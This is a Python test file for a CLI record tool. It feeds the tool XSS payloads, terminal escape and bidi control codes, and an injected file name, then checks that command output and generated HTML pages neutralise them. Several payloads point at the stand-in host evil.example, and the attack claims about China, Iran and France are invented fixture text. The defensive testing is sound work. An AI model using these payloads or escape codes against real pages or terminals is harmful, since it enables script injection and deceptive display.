"""A document written to harm whoever looks at it: through every command that shows the record, and every page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from tests.ui.cli.conftest import Run

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
CODES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2066\u200b"
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"onmouseover=alert(1) x="',
    "'onfocus='alert(1)' autofocus='",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>@import '//evil.example';</style>",
    "--><!--<form action=//evil.example>",
    "]]><math><mtext></p><style><img src=x>",
    "&lt;script&gt;&#60;script&#62;",
)
HARMLESS = frozenset(
    "html head meta title style body header main footer section article aside div p span a h1 h2 h3 dl dt dd ul ol li"
    " button fieldset legend label input script table caption thead tbody tr th td b i em strong small br".split()
)


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


def _document() -> str:
    told = [
        f"The government of China{CODES} hacked the Example Mail servers {payload}, the minister{payload} said."
        for payload in PAYLOADS
    ]
    turns = [f"MR {payload} EXAMPLE{CODES}: France said that Iran{CODES} had attacked it." for payload in PAYLOADS]
    return "\n\n".join([f"Example{CODES} statement {PAYLOADS[0]}", *told, *turns, f"China denied it{CODES}."])


def _check_page(path: Path) -> None:
    page = path.read_text("utf-8")
    seen = Seen(page)
    assert set(seen.tags) <= HARMLESS
    assert seen.tags.count("script") <= 1
    assert seen.tags.count("meta") <= 3
    assert not [name for name, _ in seen.attributes if name.startswith("on") or name in ("src", "srcdoc", "action")]
    assert all((value or "").startswith("#") for name, value in seen.attributes if name == "href")
    assert "default-src 'none'" in page
    assert OBEYED.search(page) is None


def test_what_a_hostile_document_says_is_shown_and_never_obeyed(run: Run, tmp_path: Path) -> None:
    path = tmp_path / f"a{CODES.replace('/', '')}<img src=x onerror=alert(1)>.txt"
    path.write_text(_document(), encoding="utf-8")
    said = ("--title", PAYLOADS[2], "--publisher", "javascript:alert(1)", "--licence", PAYLOADS[6])
    run("record", "add", path, "--author", "A. Officer", "--date", "2021-07-22", *said)
    run("record", "read")
    shown = [
        run("record", *words)
        for words in (
            ("add", path, "--author", "A. Officer"),
            ("list",),
            ("show", "1"),
            ("show", path.name),
            ("timeline", "--said"),
            ("timeline", "--csv"),
            ("actors",),
            ("who-says",),
            ("responses",),
            ("compare",),
            ("review", "--queue"),
            ("review", "--rules"),
            ("export",),
        )
    ]
    shown.append(run("record", "show", f"none{CODES}", exits=1))
    for each in shown:
        assert OBEYED.search(each.stdout + each.stderr) is None
    assert "\\x1b[2J" in shown[2].stdout


def test_no_page_of_a_hostile_document_runs_anything(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text(_document(), encoding="utf-8")
    said = ("--title", PAYLOADS[1], "--publisher", "javascript:alert(1)", "--licence", PAYLOADS[6])
    run("record", "add", path, "--author", "A. Officer", "--date", "2021-07-22", *said)
    run("record", "read")
    for words, name in ((("page", "1"), "page.html"), (("who-says",), "who-says.html")):
        run("record", *words, "-o", tmp_path / name)
        _check_page(tmp_path / name)
